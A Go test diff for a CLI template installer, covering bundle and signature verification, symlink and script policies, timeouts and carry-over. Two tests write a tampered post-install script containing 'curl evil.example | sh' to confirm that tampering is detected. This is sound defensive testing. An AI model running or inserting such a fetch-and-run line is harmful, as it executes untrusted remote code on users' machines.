@@ -1,12 +1,30 @@
 package installer
 
 import (
+	"archive/tar"
+	"compress/gzip"
+	"context"
+	"crypto/ed25519"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
 	"os"
 	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/config"
 	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/models"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/reporter"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/bundle"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/filesystem"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/installer/installertest"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/plugin"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/scaffold"
+	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/services/verify"
 	"github.com/Fomo-Driven-Development/strategic-claude-basic-cli/internal/templates"
 )
 
@@ -34,6 +52,20 @@ func TestNew(t *testing.T) {
 	}
 }
 
+func TestNew_Options(t *testing.T) {
+	var _ GitClient = (*installertest.LocalGit)(nil)
+	var _ ScriptRunner = (*installertest.RecordingScripts)(nil)
+
+	gitClient := installertest.NewLocalGit(t.TempDir())
+	service := New(WithGitClient(gitClient))
+	if service.gitService != gitClient {
+		t.Error("WithGitClient() did not replace the git service")
+	}
+	if service.filesystemService == nil {
+		t.Error("Filesystem service not initialized")
+	}
+}
+
 func TestAnalyzeInstallation(t *testing.T) {
 	service := New()
 
@@ -157,6 +189,7 @@ func TestDetermineInstallationType(t *testing.T) {
 		status        *models.StatusInfo
 		installConfig models.InstallConfig
 		expectedType  models.InstallationType
+		expectError   bool
 	}{
 		{
 			name:          "force flag set",
@@ -180,14 +213,23 @@ func TestDetermineInstallationType(t *testing.T) {
 			name:          "installed with no flags",
 			status:        &models.StatusInfo{IsInstalled: true},
 			installConfig: models.InstallConfig{},
-			expectedType:  models.InstallationTypeOverwrite,
+			expectError:   true,
 		},
 	}
 
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			result := service.determineInstallationType(tt.status, tt.installConfig)
+			result, err := service.determineInstallationType(tt.status, tt.installConfig)
 
+			if tt.expectError {
+				if !models.IsErrorCode(err, models.ErrorCodeAlreadyInstalled) {
+					t.Errorf("Expected %s, got %v", models.ErrorCodeAlreadyInstalled, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Unexpected error: %v", err)
+			}
 			if result != tt.expectedType {
 				t.Errorf("Expected %s, got %s", tt.expectedType, result)
 			}
@@ -332,3 +374,1133 @@ func TestAnalyzeFileOperations(t *testing.T) {
 		})
 	}
 }
+
+func TestResolveTemplate(t *testing.T) {
+	service := New()
+	targetDir := t.TempDir()
+
+	vendored := templates.Registry["main"]
+	vendorDir := bundle.VendorPath(targetDir)
+	if err := os.MkdirAll(vendorDir, 0755); err != nil {
+		t.Fatalf("Failed to create vendor dir: %v", err)
+	}
+	writeManifest := func(template templates.Template) {
+		t.Helper()
+		data, _ := json.Marshal(bundle.Manifest{FormatVersion: config.BundleFormatVersion, Template: template, TreeHash: "sha256:00"})
+		if err := os.WriteFile(filepath.Join(vendorDir, config.BundleManifestFile), data, 0644); err != nil {
+			t.Fatalf("Failed to write vendor manifest: %v", err)
+		}
+	}
+	writeManifest(vendored)
+
+	tests := []struct {
+		name           string
+		templateID     string
+		expectedSource models.TemplateSource
+		expectedCommit string
+	}{
+		{
+			name:           "vendored copy of requested template",
+			templateID:     "main",
+			expectedSource: models.TemplateSourceVendored,
+			expectedCommit: vendored.Commit,
+		},
+		{
+			name:           "different template falls back to repository",
+			templateID:     "ccr",
+			expectedSource: models.TemplateSourceRepository,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			template, source, err := service.resolveTemplate(models.InstallConfig{TargetDir: targetDir, TemplateID: tt.templateID})
+			if err != nil {
+				t.Fatalf("resolveTemplate() error = %v", err)
+			}
+			if source != tt.expectedSource {
+				t.Errorf("resolveTemplate() source = %v, want %v", source, tt.expectedSource)
+			}
+			if tt.expectedCommit != "" && template.Commit != tt.expectedCommit {
+				t.Errorf("resolveTemplate() commit = %v, want %v", template.Commit, tt.expectedCommit)
+			}
+			if template.ID != tt.templateID {
+				t.Errorf("resolveTemplate() template = %v, want %v", template.ID, tt.templateID)
+			}
+		})
+	}
+
+	// A manifest edited to another commit, or to trust another hash, is refused
+	edited := vendored
+	edited.Commit = "0123456789abcdef0123456789abcdef01234567"
+	edited.TreeHash = "sha256:00"
+	writeManifest(edited)
+	if _, _, err := service.resolveTemplate(models.InstallConfig{TargetDir: targetDir, TemplateID: "main"}); !models.IsErrorCode(err, models.ErrorCodeInvalidBundle) {
+		t.Errorf("resolveTemplate() of an edited vendor manifest error = %v, want %s", err, models.ErrorCodeInvalidBundle)
+	}
+}
+
+// writeTestBundle packs contentDir into a bundle with a manifest for template,
+// hashed like the content, as someone rebuilding a tampered bundle would
+func writeTestBundle(t *testing.T, bundlePath string, template templates.Template, contentDir string) {
+	t.Helper()
+
+	treeHash, err := verify.New().ComputeTreeHash(contentDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	manifest, _ := json.Marshal(bundle.Manifest{FormatVersion: config.BundleFormatVersion, Template: template, TreeHash: treeHash})
+
+	file, err := os.Create(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	gzipWriter := gzip.NewWriter(file)
+	tarWriter := tar.NewWriter(gzipWriter)
+	if err := tarWriter.WriteHeader(&tar.Header{Name: config.BundleManifestFile, Mode: 0644, Size: int64(len(manifest))}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := tarWriter.Write(manifest); err != nil {
+		t.Fatal(err)
+	}
+	err = filepath.WalkDir(contentDir, func(path string, d os.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		rel, _ := filepath.Rel(contentDir, path)
+		data, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		info, _ := d.Info()
+		header := &tar.Header{Name: config.BundleContentDir + "/" + filepath.ToSlash(rel), Mode: int64(info.Mode().Perm()), Size: int64(len(data))}
+		if err := tarWriter.WriteHeader(header); err != nil {
+			return err
+		}
+		_, err = tarWriter.Write(data)
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := tarWriter.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gzipWriter.Close(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestResolveTemplate_Bundle(t *testing.T) {
+	contentDir := t.TempDir()
+	if _, err := scaffold.New().Create(contentDir, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	scriptPath := filepath.Join(contentDir, config.PostInstallScript)
+	if err := os.WriteFile(scriptPath, []byte("#!/bin/sh\necho installed\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	// The registry pins the hash of the genuine content
+	original := templates.Registry[templates.DefaultTemplateID]
+	t.Cleanup(func() { templates.Registry[templates.DefaultTemplateID] = original })
+	registered := original
+	treeHash, err := verify.New().ComputeTreeHash(contentDir, config.GetVerifiedTemplatePaths()...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	registered.TreeHash = treeHash
+	templates.Registry[templates.DefaultTemplateID] = registered
+
+	service := New()
+	service.SetReporter(reporter.NewSilent())
+	bundleDir := t.TempDir()
+	install := func(name string, template templates.Template) error {
+		bundlePath := filepath.Join(bundleDir, name)
+		writeTestBundle(t, bundlePath, template, contentDir)
+		return service.withTemplate(models.InstallConfig{TargetDir: t.TempDir(), BundlePath: bundlePath}, func(string) error { return nil })
+	}
+
+	// The manifest's own hash and key are ignored in favor of the registry's
+	claimed := registered
+	claimed.Name = "Bundled"
+	claimed.TreeHash = ""
+	if err := install("genuine.tar.gz", claimed); err != nil {
+		t.Fatalf("withTemplate() of a genuine bundle error = %v", err)
+	}
+	template, source, err := service.resolveTemplate(models.InstallConfig{BundlePath: filepath.Join(bundleDir, "genuine.tar.gz")})
+	if err != nil || source != models.TemplateSourceBundle || template.Name != registered.Name || template.TreeHash != treeHash {
+		t.Errorf("resolveTemplate() = %+v, %v, %v, want the registered template", template, source, err)
+	}
+
+	otherCommit := claimed
+	otherCommit.Commit = "0123456789abcdef0123456789abcdef01234567"
+	if err := install("other-commit.tar.gz", otherCommit); !models.IsErrorCode(err, models.ErrorCodeInvalidBundle) {
+		t.Errorf("withTemplate() of a bundle at another commit error = %v, want %s", err, models.ErrorCodeInvalidBundle)
+	}
+	unknown := claimed
+	unknown.ID = "unknown"
+	if err := install("unknown.tar.gz", unknown); !models.IsErrorCode(err, models.ErrorCodeInvalidBundle) {
+		t.Errorf("withTemplate() of an unknown template error = %v, want %s", err, models.ErrorCodeInvalidBundle)
+	}
+
+	// Tampered content with a manifest rebuilt to match it is caught
+	if err := os.WriteFile(scriptPath, []byte("#!/bin/sh\ncurl evil.example | sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	tampered := claimed
+	tampered.TreeHash, _ = verify.New().ComputeTreeHash(contentDir, config.GetVerifiedTemplatePaths()...)
+	if err := install("tampered.tar.gz", tampered); !models.IsErrorCode(err, models.ErrorCodeVerificationFailed) {
+		t.Errorf("withTemplate() of a tampered bundle error = %v, want %s", err, models.ErrorCodeVerificationFailed)
+	}
+}
+
+func TestAnalyzeParentInstallations(t *testing.T) {
+	service := New()
+	status := &models.StatusInfo{ParentInstallations: []string{"/projects/monorepo"}}
+
+	tests := []struct {
+		name          string
+		allowNested   bool
+		expectValid   bool
+		expectWarning bool
+	}{
+		{name: "refused by default", allowNested: false, expectValid: false},
+		{name: "allowed with --allow-nested", allowNested: true, expectValid: true, expectWarning: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			plan := models.NewInstallationPlan("/projects/monorepo/app", models.InstallationTypeNew, templates.Template{})
+			service.analyzeParentInstallations(plan, status, tt.allowNested)
+
+			if plan.IsValid() != tt.expectValid {
+				t.Errorf("IsValid() = %v, want %v (errors: %v)", plan.IsValid(), tt.expectValid, plan.Errors)
+			}
+			if (len(plan.Warnings) > 0) != tt.expectWarning {
+				t.Errorf("Warnings = %v, expectWarning %v", plan.Warnings, tt.expectWarning)
+			}
+		})
+	}
+}
+
+func TestAnalyzeInstallation_ScriptIsolation(t *testing.T) {
+	scripts := installertest.NewRecordingScripts()
+	service := New(WithScriptRunner(scripts))
+	installConfig := models.InstallConfig{
+		TargetDir:       t.TempDir(),
+		TemplateID:      "main",
+		ScriptIsolation: models.ScriptIsolationDocker,
+	}
+
+	fallback := func(warning string) bool {
+		return strings.Contains(warning, "without isolation")
+	}
+
+	plan, err := service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	if plan.ScriptIsolation != models.ScriptIsolationDocker || slices.ContainsFunc(plan.Warnings, fallback) {
+		t.Errorf("plan isolation = %q, warnings %v, want docker without the fallback", plan.ScriptIsolation, plan.Warnings)
+	}
+
+	// Without Docker the plan says the scripts run without isolation
+	scripts.IsolationErr = models.NewAppError(models.ErrorCodeDockerUnavailable, "Docker is not installed", nil)
+	plan, err = service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	if plan.ScriptIsolation != models.ScriptIsolationNone {
+		t.Errorf("plan isolation = %q, want %q", plan.ScriptIsolation, models.ScriptIsolationNone)
+	}
+	if !slices.ContainsFunc(plan.Warnings, fallback) {
+		t.Errorf("plan warnings = %v, want the isolation fallback", plan.Warnings)
+	}
+}
+
+func TestAnalyzeInstallation_SensitiveDirectory(t *testing.T) {
+	service := New()
+	forbidden := t.TempDir()
+	t.Setenv(config.ForbiddenPathsEnvVar, forbidden)
+
+	installConfig := models.InstallConfig{
+		TargetDir:     forbidden,
+		TemplateID:    "main",
+		GitignoreMode: "track",
+	}
+
+	_, err := service.AnalyzeInstallation(installConfig)
+	if !models.IsErrorCode(err, models.ErrorCodeSensitiveDirectory) {
+		t.Errorf("AnalyzeInstallation() error = %v, want code %s", err, models.ErrorCodeSensitiveDirectory)
+	}
+
+	installConfig.AllowSensitiveTarget = true
+	if _, err := service.AnalyzeInstallation(installConfig); err != nil {
+		t.Errorf("AnalyzeInstallation() with override error = %v", err)
+	}
+}
+
+func TestAnalyzeGitRepository(t *testing.T) {
+	service := New()
+
+	tests := []struct {
+		name           string
+		requireGitRepo bool
+		expectValid    bool
+	}{
+		{name: "warning by default", requireGitRepo: false, expectValid: true},
+		{name: "error with --require-git-repo", requireGitRepo: true, expectValid: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			plan := models.NewInstallationPlan(t.TempDir(), models.InstallationTypeNew, templates.Template{})
+			service.analyzeGitRepository(plan, tt.requireGitRepo)
+
+			if plan.IsValid() != tt.expectValid {
+				t.Errorf("IsValid() = %v, want %v (errors: %v)", plan.IsValid(), tt.expectValid, plan.Errors)
+			}
+			if tt.expectValid && len(plan.Warnings) == 0 {
+				t.Error("Expected a warning for a target outside a git repository")
+			}
+			if plan.GitRepoRoot != "" {
+				t.Errorf("GitRepoRoot = %v, want empty", plan.GitRepoRoot)
+			}
+		})
+	}
+}
+
+func TestAnalyzeDevMode(t *testing.T) {
+	service := New()
+
+	tests := []struct {
+		name          string
+		devPath       string
+		installType   models.InstallationType
+		source        models.TemplateSource
+		expectWarning bool
+	}{
+		{name: "regular installation", installType: models.InstallationTypeUpdate, source: models.TemplateSourceRepository},
+		{name: "update replaces dev links", devPath: "/src/template", installType: models.InstallationTypeUpdate, source: models.TemplateSourceRepository, expectWarning: true},
+		{name: "dev mode keeps links", devPath: "/src/template", installType: models.InstallationTypeUpdate, source: models.TemplateSourceDev},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			plan := models.NewInstallationPlan(t.TempDir(), tt.installType, templates.Template{})
+			plan.TemplateSource = tt.source
+			service.analyzeDevMode(plan, &models.StatusInfo{DevTemplatePath: tt.devPath})
+
+			if got := len(plan.Warnings) > 0; got != tt.expectWarning {
+				t.Errorf("analyzeDevMode() warned = %v, want %v (warnings: %v)", got, tt.expectWarning, plan.Warnings)
+			}
+		})
+	}
+}
+
+func TestAnalyzeIntegrations(t *testing.T) {
+	service := New()
+
+	tests := []struct {
+		name                 string
+		requested            []string
+		requestedCursorMode  string
+		current              *models.StatusInfo
+		expectedIntegrations []string
+		expectedCursorMode   string
+		expectWarning        bool
+	}{
+		{
+			name:                 "new installation uses defaults",
+			current:              models.NewStatusInfo(""),
+			expectedIntegrations: models.DefaultIntegrations(),
+			expectedCursorMode:   models.CursorModeSymlink,
+		},
+		{
+			name: "persisted choice is kept",
+			current: &models.StatusInfo{
+				Integrations:      []string{models.IntegrationClaude, models.IntegrationCursor},
+				InstalledTemplate: &templates.TemplateInfo{CursorMode: models.CursorModeCopy},
+			},
+			expectedIntegrations: []string{models.IntegrationClaude, models.IntegrationCursor},
+			expectedCursorMode:   models.CursorModeCopy,
+		},
+		{
+			name:                 "explicit choice replaces persisted one",
+			requested:            []string{models.IntegrationClaude, models.IntegrationCursor},
+			requestedCursorMode:  models.CursorModeSymlink,
+			current:              &models.StatusInfo{Integrations: models.DefaultIntegrations(), InstalledTemplate: &templates.TemplateInfo{CursorMode: models.CursorModeCopy}},
+			expectedIntegrations: []string{models.IntegrationClaude, models.IntegrationCursor},
+			expectedCursorMode:   models.CursorModeSymlink,
+		},
+		{
+			name:                 "dropping codex warns",
+			requested:            []string{models.IntegrationClaude},
+			current:              &models.StatusInfo{Integrations: models.DefaultIntegrations(), CodexDir: true},
+			expectedIntegrations: []string{models.IntegrationClaude},
+			expectedCursorMode:   models.CursorModeSymlink,
+			expectWarning:        true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			plan := models.NewInstallationPlan(t.TempDir(), models.InstallationTypeUpdate, templates.Template{})
+			installConfig := models.InstallConfig{Integrations: tt.requested, CursorMode: tt.requestedCursorMode}
+			service.analyzeIntegrations(plan, tt.current, installConfig)
+
+			if !slices.Equal(plan.Integrations, tt.expectedIntegrations) {
+				t.Errorf("analyzeIntegrations() integrations = %v, want %v", plan.Integrations, tt.expectedIntegrations)
+			}
+			if plan.CursorMode != tt.expectedCursorMode {
+				t.Errorf("analyzeIntegrations() cursor mode = %v, want %v", plan.CursorMode, tt.expectedCursorMode)
+			}
+			if got := len(plan.Warnings) > 0; got != tt.expectWarning {
+				t.Errorf("analyzeIntegrations() warned = %v, want %v (warnings: %v)", got, tt.expectWarning, plan.Warnings)
+			}
+		})
+	}
+}
+
+func TestInstall_DevMode(t *testing.T) {
+	service := New()
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "dev"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	targetDir := t.TempDir()
+
+	installConfig := models.InstallConfig{
+		TargetDir:       targetDir,
+		TemplateID:      templates.DefaultTemplateID,
+		SkipConfirm:     true,
+		NoBackup:        true,
+		GitignoreMode:   "track",
+		DevTemplatePath: checkout,
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	strategicDir := filepath.Join(targetDir, config.StrategicClaudeBasicDir)
+	for _, dir := range config.GetCoreDirectories() {
+		target, err := os.Readlink(filepath.Join(strategicDir, dir))
+		if err != nil {
+			t.Errorf("%s is not a symlink: %v", dir, err)
+			continue
+		}
+		if want := filepath.Join(checkout, config.StrategicClaudeBasicDir, dir); target != want {
+			t.Errorf("%s links to %s, want %s", dir, target, want)
+		}
+	}
+
+	// User directories are copied, not linked
+	info, err := os.Lstat(filepath.Join(strategicDir, config.PlanDir))
+	if err != nil || !info.IsDir() {
+		t.Errorf("%s should be a copied directory, err = %v", config.PlanDir, err)
+	}
+
+	// Edits in the checkout are visible through .claude immediately
+	newAgent := filepath.Join(checkout, config.StrategicClaudeBasicDir, config.CoreDir, config.AgentsDir, "new-agent.md")
+	if err := os.WriteFile(newAgent, []byte("# New\n"), 0644); err != nil {
+		t.Fatalf("Failed to write agent: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(targetDir, config.ClaudeDir, config.AgentsDir, "strategic", "new-agent.md")); err != nil {
+		t.Errorf("new agent is not visible through .claude/agents/strategic: %v", err)
+	}
+
+	// Cleaning removes the links without touching the checkout
+	if err := service.filesystemService.RemoveStrategicClaudeBasic(targetDir); err != nil {
+		t.Fatalf("RemoveStrategicClaudeBasic() error = %v", err)
+	}
+	if _, err := os.Stat(newAgent); err != nil {
+		t.Errorf("checkout file was removed: %v", err)
+	}
+}
+
+func TestInstall_ScriptErrorPolicy(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	tests := []struct {
+		policy        string
+		wantErr       bool
+		wantInstalled bool
+	}{
+		{models.ScriptErrorAbort, true, true},
+		{models.ScriptErrorContinue, false, true},
+		{models.ScriptErrorRollback, true, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.policy, func(t *testing.T) {
+			scripts := installertest.NewRecordingScripts()
+			scripts.Fail = map[string]error{config.PostInstallScript: errors.New("exit status 1")}
+			service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(scripts))
+			service.SetReporter(reporter.NewSilent())
+
+			targetDir := t.TempDir()
+			err := service.Install(models.InstallConfig{
+				TargetDir:         targetDir,
+				TemplateID:        templates.DefaultTemplateID,
+				SkipConfirm:       true,
+				NoBackup:          true,
+				NoCache:           true,
+				NoVerify:          true,
+				GitignoreMode:     "track",
+				ScriptErrorPolicy: tt.policy,
+			})
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("Install() error = %v, wantErr %v", err, tt.wantErr)
+			}
+
+			_, statErr := os.Stat(filepath.Join(targetDir, config.StrategicClaudeBasicDir))
+			if installed := statErr == nil; installed != tt.wantInstalled {
+				t.Errorf("framework directory installed = %v, want %v", installed, tt.wantInstalled)
+			}
+
+			report := service.Report(&models.InstallationPlan{TargetDir: targetDir}, err)
+			if report.ScriptErrorPolicy != tt.policy {
+				t.Errorf("Report().ScriptErrorPolicy = %q, want %q", report.ScriptErrorPolicy, tt.policy)
+			}
+			if report.RolledBack != (tt.policy == models.ScriptErrorRollback) {
+				t.Errorf("Report().RolledBack = %v for policy %s", report.RolledBack, tt.policy)
+			}
+			if n := len(report.Scripts); n != 2 || report.Scripts[1].ExitCode == 0 {
+				t.Errorf("Report().Scripts = %+v, want the failed post-install script last", report.Scripts)
+			}
+		})
+	}
+}
+
+func TestInstall_SymlinkPolicy(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	escaping := filepath.Join(checkout, config.StrategicClaudeBasicDir, "core", "escape.md")
+	if err := os.Symlink("../../../outside.md", escaping); err != nil {
+		t.Fatal(err)
+	}
+
+	install := func(policy string) (string, error) {
+		service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+		service.SetReporter(reporter.NewSilent())
+		targetDir := t.TempDir()
+		return targetDir, service.Install(models.InstallConfig{
+			TargetDir:     targetDir,
+			TemplateID:    templates.DefaultTemplateID,
+			SkipConfirm:   true,
+			NoBackup:      true,
+			NoCache:       true,
+			NoVerify:      true,
+			GitignoreMode: "track",
+			SymlinkPolicy: policy,
+		})
+	}
+
+	// A link leading out of the template is refused by default
+	if _, err := install(""); !models.IsErrorCode(err, models.ErrorCodeSymlinkInvalid) {
+		t.Errorf("Install() error = %v, want %s", err, models.ErrorCodeSymlinkInvalid)
+	}
+
+	targetDir, err := install(models.SymlinkPolicySkip)
+	if err != nil {
+		t.Fatalf("Install() with skip error = %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(targetDir, config.StrategicClaudeBasicDir, "core", "escape.md")); !os.IsNotExist(err) {
+		t.Errorf("Install() with skip copied the escaping link: %v", err)
+	}
+}
+
+func TestInstall_CarryOver(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(installertest.NewRecordingScripts()))
+	service.SetReporter(reporter.NewSilent())
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	strategicDir := filepath.Join(targetDir, config.StrategicClaudeBasicDir)
+	kept := filepath.Join(strategicDir, config.PlanDir, "mine.md")
+	dropped := filepath.Join(strategicDir, config.ResearchDir, "notes.md")
+	for _, path := range []string{kept, dropped} {
+		if err := os.WriteFile(path, []byte("# Mine\n"), 0644); err != nil {
+			t.Fatalf("Failed to write user document: %v", err)
+		}
+	}
+
+	installConfig.Force = true
+	installConfig.CarryOver = []string{config.PlanDir}
+	plan, err := service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	if want := filepath.Join(config.FrameworkDir(), config.PlanDir); !slices.Contains(plan.WillPreserve, want) {
+		t.Errorf("WillPreserve = %v, want %s in it", plan.WillPreserve, want)
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() with --force error = %v", err)
+	}
+
+	if _, err := os.Stat(kept); err != nil {
+		t.Errorf("carried over document was removed: %v", err)
+	}
+	if _, err := os.Stat(dropped); !os.IsNotExist(err) {
+		t.Errorf("document not carried over still exists, err = %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(strategicDir, config.CoreDir)); err != nil {
+		t.Errorf("core directory was not installed: %v", err)
+	}
+
+	installConfig.CarryOver = []string{config.CoreDir}
+	plan, err = service.AnalyzeInstallation(installConfig)
+	if err != nil {
+		t.Fatalf("AnalyzeInstallation() error = %v", err)
+	}
+	if plan.IsValid() {
+		t.Error("carrying over a core directory should be a plan error")
+	}
+}
+
+func TestInstall_Timeout(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	scripts := installertest.NewRecordingScripts()
+	scripts.Hang = map[string]bool{config.PostInstallScript: true}
+	service := New(WithGitClient(installertest.NewLocalGit(checkout)), WithScriptRunner(scripts))
+	service.SetReporter(reporter.NewSilent())
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+	service.SetContext(ctx)
+
+	targetDir := t.TempDir()
+	err := service.Install(models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	})
+	if !models.IsErrorCode(err, models.ErrorCodeOperationTimeout) {
+		t.Fatalf("Install() error = %v, want %s", err, models.ErrorCodeOperationTimeout)
+	}
+	if _, err := os.Stat(filepath.Join(targetDir, config.StrategicClaudeBasicDir)); !os.IsNotExist(err) {
+		t.Errorf("framework directory left after the deadline: %v", err)
+	}
+	if report := service.Report(&models.InstallationPlan{TargetDir: targetDir}, err); !report.RolledBack {
+		t.Error("Report().RolledBack = false after the deadline")
+	}
+
+	// Nothing is changed when the deadline passed before the installation started
+	targetDir = t.TempDir()
+	err = service.Install(models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+	})
+	if !models.IsErrorCode(err, models.ErrorCodeOperationTimeout) {
+		t.Fatalf("Install() error = %v, want %s", err, models.ErrorCodeOperationTimeout)
+	}
+	if entries, _ := os.ReadDir(targetDir); len(entries) != 0 {
+		t.Errorf("target directory has %d entries after an expired install, want none", len(entries))
+	}
+}
+
+func TestResolveTemplate_DevMode(t *testing.T) {
+	service := New()
+
+	_, _, err := service.resolveTemplate(models.InstallConfig{TemplateID: templates.DefaultTemplateID, DevTemplatePath: t.TempDir()})
+	if !models.IsErrorCode(err, models.ErrorCodeValidationFailed) {
+		t.Errorf("resolveTemplate() error = %v, want validation error for a directory without %s", err, config.StrategicClaudeBasicDir)
+	}
+}
+
+func TestVerifyTemplateContent(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+	scriptPath := filepath.Join(checkout, config.PostInstallScript)
+	if err := os.WriteFile(scriptPath, []byte("#!/bin/sh\necho installed\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	treeHash, err := verify.New().ComputeTreeHash(checkout, config.GetVerifiedTemplatePaths()...)
+	if err != nil {
+		t.Fatalf("ComputeTreeHash() error = %v", err)
+	}
+	publicKey, privateKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, []byte(treeHash)))
+	if err := os.WriteFile(filepath.Join(checkout, config.TemplateSignatureFile), []byte(signature), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	service := New()
+	service.SetReporter(reporter.NewSilent())
+	hashed := templates.Template{ID: "fake", TreeHash: treeHash}
+	signed := templates.Template{ID: "fake", PublicKey: base64.StdEncoding.EncodeToString(publicKey)}
+	for _, template := range []templates.Template{hashed, signed} {
+		if err := service.verifyTemplateContent(checkout, template, false); err != nil {
+			t.Errorf("verifyTemplateContent() error = %v", err)
+		}
+	}
+
+	// A tampered installation script fails, even though the framework directory is intact
+	if err := os.WriteFile(scriptPath, []byte("#!/bin/sh\ncurl evil.example | sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	for _, template := range []templates.Template{hashed, signed} {
+		if err := service.verifyTemplateContent(checkout, template, false); !models.IsErrorCode(err, models.ErrorCodeVerificationFailed) {
+			t.Errorf("verifyTemplateContent() of a tampered %s error = %v, want %s", config.PostInstallScript, err, models.ErrorCodeVerificationFailed)
+		}
+	}
+	if err := service.verifyTemplateContent(checkout, hashed, true); err != nil {
+		t.Errorf("verifyTemplateContent() with --no-verify error = %v", err)
+	}
+}
+
+func TestInstall_WithFakes(t *testing.T) {
+	checkout := t.TempDir()
+	if _, err := scaffold.New().Create(checkout, "fake"); err != nil {
+		t.Fatalf("Failed to create template: %v", err)
+	}
+
+	gitClient := installertest.NewLocalGit(checkout)
+	scripts := installertest.NewRecordingScripts()
+	service := New(WithGitClient(gitClient), WithScriptRunner(scripts))
+	service.SetReporter(reporter.NewSilent())
+
+	targetDir := t.TempDir()
+	installConfig := models.InstallConfig{
+		TargetDir:     targetDir,
+		TemplateID:    templates.DefaultTemplateID,
+		SkipConfirm:   true,
+		NoBackup:      true,
+		NoCache:       true,
+		NoVerify:      true,
+		GitignoreMode: "track",
+		AuthToken:     "secret",
+	}
+	if err := service.Install(installConfig); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+
+	template, err := templates.GetTemplate(templates.DefaultTemplateID)
+	if err != nil {
+		t.Fatalf("GetTemplate() error = %v", err)
+	}
